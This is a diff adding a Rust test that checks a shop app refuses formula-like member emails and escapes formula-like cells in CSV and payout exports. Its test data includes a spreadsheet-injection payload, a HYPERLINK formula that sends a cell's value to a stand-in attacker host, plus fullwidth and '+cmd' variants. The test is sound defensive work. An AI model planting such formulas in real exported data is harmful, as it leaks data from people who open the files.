@@ -470,3 +470,79 @@ async fn bad_api_keys_are_limited_per_address() {
         assert_eq!(status, 200, "{body}");
     }
 }
+
+/// The address that reached the payout file's first cell, and one in fullwidth.
+const FORMULA_EMAILS: [&str; 3] = [
+    "=HYPERLINK(\"http://evil.example/\"&B1,\"Click\")&\"@x.y\"",
+    "\u{FF1D}1+1@x.example",
+    "+cmd@x.example",
+];
+
+/// Addresses that start like a formula are refused at input; every export cell a
+/// spreadsheet could run (fullwidth signs too) gets a `'`, in the payout file
+/// also for an address stored before this check.
+#[tokio::test]
+async fn every_export_cell_is_formula_safe() {
+    use crate::payments::{SEND, csv_rows, due_orders, no_hold};
+    let app = TestApp::new().await;
+    let shop = crate::tracking::shop(&app).await;
+    for email in FORMULA_EMAILS {
+        let code = app
+            .error_code(
+                Some(&shop.brand.admin),
+                "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
+                json!({ "i": { "name": "Eve", "email": email } }),
+            )
+            .await;
+        assert_eq!(code, "BAD_USER_INPUT", "{email}");
+        let code = app
+            .error_code(
+                Some(&shop.brand.admin),
+                "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } } }",
+                json!({ "i": { "name": "Eve", "email": "eve@x.example", "payoutEmail": email } }),
+            )
+            .await;
+        assert_eq!(code, "BAD_USER_INPUT", "payout {email}");
+    }
+
+    // Stored before emails were checked, and a name in fullwidth signs.
+    {
+        let mut conn = app.db.connect().await;
+        diesel_async::SimpleAsyncConnection::batch_execute(
+            &mut conn,
+            &format!(
+                "UPDATE members SET email = '{}', name = '\u{FF1D}SUM(A1)' WHERE brand_id = {}",
+                FORMULA_EMAILS[0].replace('\'', "''"),
+                shop.brand.id.0
+            ),
+        )
+        .await
+        .unwrap();
+    }
+    let uri = format!("/export/offers/{}/memberships.csv?columns=NAME", shop.code_offer);
+    let (_, _, body) = app.get_as(&shop.brand.admin, &uri).await;
+    assert_eq!(csv_rows(&body)[1], ["'\u{FF1D}SUM(A1)"], "{body}");
+
+    no_hold(&app, &shop).await;
+    due_orders(&app, &shop, &shop.promo_code, 1, &["80.00"]).await;
+    let sent = app
+        .ok(
+            &shop.brand.admin,
+            SEND,
+            json!({ "i": { "scope": "MEMBERSHIPS", "membershipIds": [shop.code_membership], "idempotencyKey": "k" } }),
+        )
+        .await;
+    let url = sent["sendPayment"]["payment"]["payoutFileUrl"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (_, _, body) = app.get_as(&shop.brand.admin, &url).await;
+    let rows = csv_rows(&body);
+    assert_eq!(rows[0][0], format!("'{}", FORMULA_EMAILS[0]), "{body}");
+    for cell in rows.iter().flatten() {
+        assert!(
+            !sales_tracking::domain::validate::starts_like_a_formula(cell),
+            "a cell a spreadsheet would run: {cell}"
+        );
+    }
+}
